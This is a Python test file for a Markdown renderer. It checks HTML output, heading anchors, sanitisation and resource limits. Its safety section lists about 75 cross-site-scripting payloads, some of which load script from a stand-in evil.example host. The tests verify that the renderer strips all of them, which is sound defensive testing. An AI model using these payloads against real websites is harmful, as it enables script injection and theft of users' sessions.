"""Rendering of Markdown to HTML, text and headings: results, safety and amount of work."""

from __future__ import annotations

import cProfile
import re
import subprocess
import sys
from collections.abc import Callable
from html.parser import HTMLParser
from itertools import accumulate
from typing import Any

import nh3
import pytest
from hypothesis import example, given

from gateway.content import markup
from gateway.content.html_nesting import ATTRIBUTES, MOST_OPEN, VOID
from gateway.content.markup import Rendered, render
from gateway.model.documents import Heading
from tests.content.markdown import BODIES, HOSTILE


def html(markdown: str) -> str:
    return render(markdown).html.strip()


class Reader(HTMLParser):
    """Parses HTML independently of the gateway. The numbers and arrows of footnotes are not words."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self._wordless = ""
        """The open tag of a number or an arrow."""
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.shown: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        self.shown.append(dict(attrs).get("alt") or "")
        if tag in {"sup", "a"} and (dict(attrs).get("class") or "").startswith("footnote-"):
            self._wordless = tag

    def handle_endtag(self, tag: str) -> None:
        if tag == self._wordless:
            self._wordless = ""

    def handle_data(self, data: str) -> None:
        if not self._wordless:
            self.shown.append(data)


def is_shown_as_source(body: Rendered, markdown: str) -> bool:
    """Whether a body is shown as its source text."""
    return body.html.startswith("<pre>") and body.text == markdown.strip() and body.headings == ()


# Results.

TABLE = """\
<table><thead><tr><th align="center">a</th><th>b</th></tr></thead><tbody>
<tr><td align="center">c</td><td><code>|</code></td></tr>
</tbody></table>"""


@pytest.mark.parametrize(
    ("markdown", "expected"),
    [
        ("One *two* **three** `f(x)`", "<p>One <em>two</em> <strong>three</strong> <code>f(x)</code></p>"),
        ("a\nb  \nc", "<p>a\nb<br>\nc</p>"),
        ("> a\nb", "<blockquote>\n<p>a\nb</p>\n</blockquote>"),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>"),
        ("3. a\n\n4. b", '<ol start="3">\n<li>\n<p>a</p>\n</li>\n<li>\n<p>b</p>\n</li>\n</ol>'),
        ("- [ ] a", '<ul>\n<li><input disabled="" type="checkbox"> a</li>\n</ul>'),
        ("---", "<hr>"),
        ("Title\n===", '<h1 id="title">Title</h1>'),
        ("    a < b", "<pre><code>a &lt; b\n</code></pre>"),
        ("```py title=x\na\n```", '<pre><code class="language-py">a\n</code></pre>'),
        ("~~~c++\na\n~~~", '<pre><code class="language-c++">a\n</code></pre>'),
        ("\\*a\\* &copy;", "<p>*a* ©</p>"),
        ('[a](/b "c")', '<p><a href="/b" title="c" rel="noopener noreferrer">a</a></p>'),
        ("[a][b]\n\n[b]: https://c.example", '<p><a href="https://c.example" rel="noopener noreferrer">a</a></p>'),
        ("[a](#b)", '<p><a href="#b" rel="noopener noreferrer">a</a></p>'),
        ("<me@a.example>", '<p><a href="mailto:me@a.example" rel="noopener noreferrer">me@a.example</a></p>'),
        ('![a *b*](c.png "d")', '<p><img src="c.png" alt="a b" title="d"></p>'),
        ("|a|b|\n|:-:|--|\n|c|`\\|`|", TABLE),
        ("A <kbd>key</kbd>", "<p>A <kbd>key</kbd></p>"),
        ("<details open>\n\n*a*\n\n</details>", '<details open="">\n<p><em>a</em></p>\n</details>'),
        ("a <!-- b --> c", "<p>a  c</p>"),
        ("a <b>b", "<p>a <b>b</b></p>"),
        (
            "https://a.example",
            '<p><a href="https://a.example" rel="noopener noreferrer">https://a.example</a></p>',
        ),
        ("", ""),
    ],
)
def test_markdown_essentials(markdown: str, expected: str) -> None:
    """CommonMark, tables and raw HTML are rendered."""
    assert html(markdown) == expected


def test_text_has_a_line_per_block() -> None:
    """Markup is removed, entities are decoded, code keeps its lines, and images give their descriptions."""
    markdown = (
        "# A *title*\n\nOne\ntwo &lt;b&gt;  \nthree ![a *cat*](b.png)\n\n> - four\n>   - five\n\n"
        "```\nif a < b:\n\n    c\n```\n\n| d | e |\n|---|---|\n| f | g |\n\n"
        "<div>h<br>i</div><!-- j --><script>k</script>"
    )
    assert render(markdown).text.split("\n") == [
        "A title", "One two <b>", "three a cat", "four", "five", "if a < b:", "", "    c", "d e", "f g", "h", "i",
    ]  # fmt: skip


@pytest.mark.parametrize(
    ("markdown", "headings"),
    [
        ("# One\n## Two *x* `y`\n# One", [(1, "One", "one"), (2, "Two x y", "two-x-y"), (1, "One", "one-1")]),
        ("# a\n# a\n# a-1\n# a", [(1, "a", "a"), (1, "a", "a-1"), (1, "a-1", "a-1-1"), (1, "a", "a-2")]),
        ("# C++ & C#: 1.0!", [(1, "C++ & C#: 1.0!", "c--c-10")]),
        ("# Été 机器学习 हिंदी", [(1, "Été 机器学习 हिंदी", "été-机器学习-हिंदी")]),
        ("# 🎉\n# ?!", [(1, "🎉", "section"), (1, "?!", "section-1")]),
        ("# snake_case - _x_", [(1, "snake_case - x", "snake_case---x")]),
        ("# ![Logo](a.png)", [(1, "Logo", "logo")]),
        ("> ### [a](b)\n\nSet\nup\n---", [(3, "a", "a"), (2, "Set up", "set-up")]),
        ('<h2 id="own" dir="rtl">Raw</h2>', [(2, "Raw", "raw")]),
        ("<h1>a<div><h2>b</h2></div></h1>", [(1, "a b", "a-b")]),
        ("## Getting started {#start}", [(2, "Getting started", "start")]),
        ("## Closed {: #end-1 } ##", [(2, "Closed", "end-1")]),
        ("Under\nlined {#own}\n---", [(2, "Under lined", "own")]),
        ("# *a* {#b}\n# b\n# c {#b}", [(1, "a", "b"), (1, "b", "b-1"), (1, "c", "b-2")]),
        ("# `{#code}`\n# {#alone}\n# {#2}", [(1, "{#code}", "code"), (1, "{#2}", "2")]),
        ("#\n\n```\n# code\n```\n<!-- # no -->", []),
        ("<script>\n\n# hidden\n\n</script>", []),
        ("<sup class='footnote-reference'>\n\n# a[^b]\n\n</sup>\n\n[^b]: c", [(1, "a", "a")]),
    ],
)
def test_headings(markdown: str, headings: list[tuple[int, str, str]]) -> None:
    """Each visible heading has a level, a text and a readable, unique anchor."""
    assert render(markdown).headings == tuple(Heading(*each) for each in headings)


@given(BODIES)
def test_anchors_equal_the_ids_of_the_html(body: str) -> None:
    """The HTML has exactly the anchors as ids, in order, beside those of footnotes, which no anchor equals."""
    rendered = render(body)
    anchors = [heading.anchor for heading in rendered.headings]
    ids = [attributes["id"] for _, attributes in Reader(rendered.html).tags if "id" in attributes]
    assert [each for each in ids if not str(each).startswith(("fn:", "fnref:"))] == anchors
    assert len(anchors) == len(set(anchors))
    assert all(re.fullmatch(r"[^\s\"&<>]+", anchor) for anchor in anchors)


@given(BODIES, BODIES)
def test_later_headings_change_no_anchor(body: str, more: str) -> None:
    """Anchors stay the same when the body grows at its end."""
    before = render("# a\n\n# b\n\n# a\n\n").headings
    assert render(f"# a\n\n# b\n\n# a\n\n{body}\n\n{more}").headings[:3] in {before, ()}


@given(BODIES)
@example("[^0]:")
@example("A[^0]\n\n[^0]: B")
@example("A[^0] B[^0]\n\n[^0]:\n    - C")
def test_text_equals_the_text_of_the_html(body: str) -> None:
    """Another parser finds the same words in the HTML."""
    rendered = render(body)
    assert "".join(rendered.text.split()) == "".join("".join(Reader(rendered.html).shown).split())
    assert all(line == line.strip() for line in rendered.text.split("\n") if "<pre" not in rendered.html)


# Safety.

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror='alert(1)'//",
    '<img """><script>alert(1)</script>">',
    "<img src=`x` onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<IMG SRC=javascript:alert(1)>",
    "<img src=data:image/svg+xml;base64,PHN2Zz4= srcset='javascript:alert(1) 1x'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'>",
    "<title><img src=x onerror=alert(1)></title>",
    "<template><script>alert(1)</script></template>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml <img src=x onerror=alert(1)> ?>",
    "<a href='javascript:alert(1)'>a</a>",
    "<a href='JaVaScRiPt:alert(1)'>a</a>",
    "<a href=' &#14; javascript:alert(1)'>a</a>",
    "<a href='java\tscript:alert(1)'>a</a>",
    "<a href='&#106;avascript&colon;alert(1)'>a</a>",
    "<a href='vbscript:x'>a</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>a</a>",
    "<a href='https://a.example' target=_top rel=opener onclick=alert(1)>a</a>",
    "<a title='x' onmouseover=alert(1)>a</a>",
    "[a](javascript:alert(1))",
    "[a](<javascript:alert(1)>)",
    "[a](JAVASCRIPT&colon;alert(1))",
    "[a](java&Tab;script:alert(1))",
    "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "[a](vbscript:x)",
    "![a](javascript:alert(1))",
    "![a](data:image/svg+xml;base64,PHN2Zz4=)",
    '![a](x "onerror=alert(1)")',
    '![x" onerror="alert(1)](y)',
    '[a](https://a.example/"onclick="alert(1))',
    "[a]: javascript:alert(1)\n\n[a]",
    "<javascript:alert(1)>",
    '```"onclick="alert(1)\na\n```',
    "```x class\n</code></pre><script>alert(1)</script>\n```",
    "# <img src=x onerror=alert(1)>",
    '# " onclick="alert(1)',
    "|<img src=x onerror=alert(1)>|\n|-|\n|<script>alert(1)</script>|",
    "<b onclick=alert(1) style='background:url(javascript:alert(1))' class=x id=y>a</b>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<form action=javascript:alert(1)><button formaction=javascript:alert(1)>a</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>a</marquee>",
    "<a name=body id=cookie>a</a><img name=getElementById>",
    "<table background=javascript:alert(1)><td background=javascript:alert(1)>a</table>",
    "<p dir=rtl onclick=alert(1)\x00>a</p>",
    "<\x00script>alert(1)</script>",
    "<a\x0chref='javascript:alert(1)'>a</a>",
    "<b/><script/>alert(1)</script>",
    "<plaintext><script>alert(1)</script>",
]  # fmt: skip
SAFE_TAGS = {*ATTRIBUTES} - {"script", "style", "iframe", "object", "embed", "svg", "math", "form", "base"}
SCHEMES = {"http", "https", "mailto", "tel"}


def is_safe(name: str, value: str | None) -> bool:
    if name in {"href", "src"}:  # browsers ignore control characters and spaces before the scheme
        scheme = re.match(r"([a-z][a-z0-9+.-]*):", re.sub(r"[\x00-\x20]", "", value or "").lower())
        return scheme is None or scheme[1] in SCHEMES
    return not name.startswith("on") and name not in {"style", "srcset", "srcdoc", "action", "name", "target"}


def is_checkbox(attributes: dict[str, str | None]) -> bool:
    return attributes == {"disabled": "", "type": "checkbox"} | {name: "" for name in attributes if name == "checked"}


def faults(html: str) -> list[object]:
    return [
        (tag, name, value)
        for tag, attributes in Reader(html).tags
        for name, value in [("", ""), *attributes.items()]
        if tag not in SAFE_TAGS or not is_safe(name, value) or (tag == "input" and not is_checkbox(attributes))
    ]


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("frame", ["{}", "Text {} text", "> - {}", "<div>\n{}\n</div>", "[{}](a)"])
def test_no_attack_gets_through(attack: str, frame: str) -> None:
    """No tag, attribute or address that runs code remains, at any place of a body."""
    assert faults(html(frame.format(attack))) == []


def test_audit_detects_attacks() -> None:
    """The audit of the other tests finds unsafe HTML."""
    for unsafe in (
        "<input>",
        "<input type=checkbox>",
        "<script>",
        "<b onclick=x>",
        "<a href='javascript:x'>",
        "<img src='data:x'>",
        "<p style=x>",
    ):
        assert faults(unsafe)


LINK_ATTRIBUTES = {*ATTRIBUTES["a"], "class", "role"}
"""Those of links back from footnotes too."""
AUDITOR = nh3.Cleaner(
    tags=set(ATTRIBUTES),
    attributes={tag: {*names, "id"} for tag, names in {**ATTRIBUTES, "a": LINK_ATTRIBUTES}.items()},
    url_schemes=SCHEMES,
)


@given(BODIES)
@example("A[^0] B[^0]\n\n[^0]: C\n\n<a href=d>\n\n[^1]: E[^1]\n\n</a>")
def test_sanitising_is_stable(body: str) -> None:
    """Sanitising the result again changes nothing."""
    rendered = html(body)
    assert AUDITOR.clean(rendered) == rendered
    assert faults(rendered) == []


# Work.


def calls(function: Callable[..., object], *arguments: object) -> int:
    """The number of function calls, a measure of work that needs no clock."""
    profile = cProfile.Profile()
    profile.runcall(function, *arguments)
    entries: Any = profile.getstats()
    return sum(entry.callcount for entry in entries)


@pytest.mark.parametrize("hostile", HOSTILE.values(), ids=HOSTILE.keys())
def test_work_is_linear(hostile: Callable[[int], str]) -> None:
    """A body four times as long takes about four times the work, within its limits of size."""
    small, large = hostile(400), hostile(1600)
    work = calls(render, large)
    assert work <= 4.7 * calls(render, small) + 1000
    assert work <= 10 * (len(large) + len(html(large))) + 1000
    assert len(html(large)) <= 4.5 * len(html(small)) + 1000


@given(BODIES)
def test_source_text_of_a_body_is_safe(body: str) -> None:
    """A body past a limit is escaped text."""
    rendered = html("|" * (markup.MOST_CELLS // 500) + "\n" * 500 + body)
    assert rendered.startswith("<pre>")
    assert AUDITOR.clean(rendered) == rendered


@pytest.mark.parametrize(
    "body",
    [
        "a" * (markup.MOST_CHARACTERS + 1),
        ">" * 2000 + "a\n" + "b\n" * (markup.MOST_STEPS // 2000),
        "- " * 2000 + "a\n" + "b\n" * (markup.MOST_STEPS // 4000),
        "|a" * 500 + "\n" + "|-" * 500 + "\n" + "b\n" * (markup.MOST_CELLS // 500),
        ">" * (markup.MOST_OUTPUT // 20),
    ],
    ids=["long", "lazy lines in quotes", "lazy lines in lists", "cells", "output"],
)
def test_body_past_a_limit_is_shown_as_source(body: str) -> None:
    """It is escaped, complete and without headings."""
    assert is_shown_as_source(render(body), body)


@pytest.mark.parametrize("mark", ["> ", "- ", "1. ", "*", "**", "[", "<div>\n\n", "<b title=a>"])
def test_tags_that_are_too_deep_are_removed(mark: str) -> None:
    """The depth of the HTML is limited, and its text is complete."""
    rendered = render(mark * 1000 + "deep" + mark * (1000 if mark[0] == "*" else 0))
    assert deepest(rendered.html) <= MOST_OPEN
    assert rendered.text.strip("[") == "deep"


def deepest(html: str) -> int:
    steps = (-1 if closes else name not in VOID for closes, name in re.findall(r"<(/?)([a-z0-9]+)", html))
    return max(accumulate(steps), default=0)


DEEP = """
import threading
from gateway.content.markup import read, render

def work():
    ends = {">": "", "- ": "", "1. ": "", "*a ": "*", "[": "](b)", "![": "](b)", "<b>": "", "<div>": "",
            "~~a ": "~~", "[^a]: ": "", "[[": "]]", "> [!NOTE]\\n> ": "", "$": "$", "- [ ] ": ""}
    for mark, end in ends.items():
        body = mark * 20_000 + "a" + end * 20_000
        render(body)
        read(body)
    print("whole")

threading.stack_size(2**17)
thread = threading.Thread(target=work)
thread.start()
thread.join()
"""


def test_deep_nesting_does_not_exhaust_the_stack() -> None:
    """A body that nests 20,000 levels is rendered in a thread with a stack of 128 KiB."""
    assert subprocess.run([sys.executable, "-c", DEEP], capture_output=True, text=True, check=True).stdout == "whole\n"


def test_common_bodies_are_below_the_limits() -> None:
    """A body with deep lists, many links and a large table is rendered."""
    nested = "".join("  " * depth + "- *item*\n" for depth in range(15))
    table = "| a | b | c |\n|---|---|---|\n" + "| [d](e) | f | |\n" * 1000
    line = "Some *words* and [a link](https://a.example) in a line of some length, as people write.\n"
    prose = (line * 8 + "\n") * 100
    rendered = render(f"# One\n\n{nested}\n\n{table}\n\n{prose}")
    assert [heading.anchor for heading in rendered.headings] == ["one"]
    assert rendered.html.count("<a ") == 1800
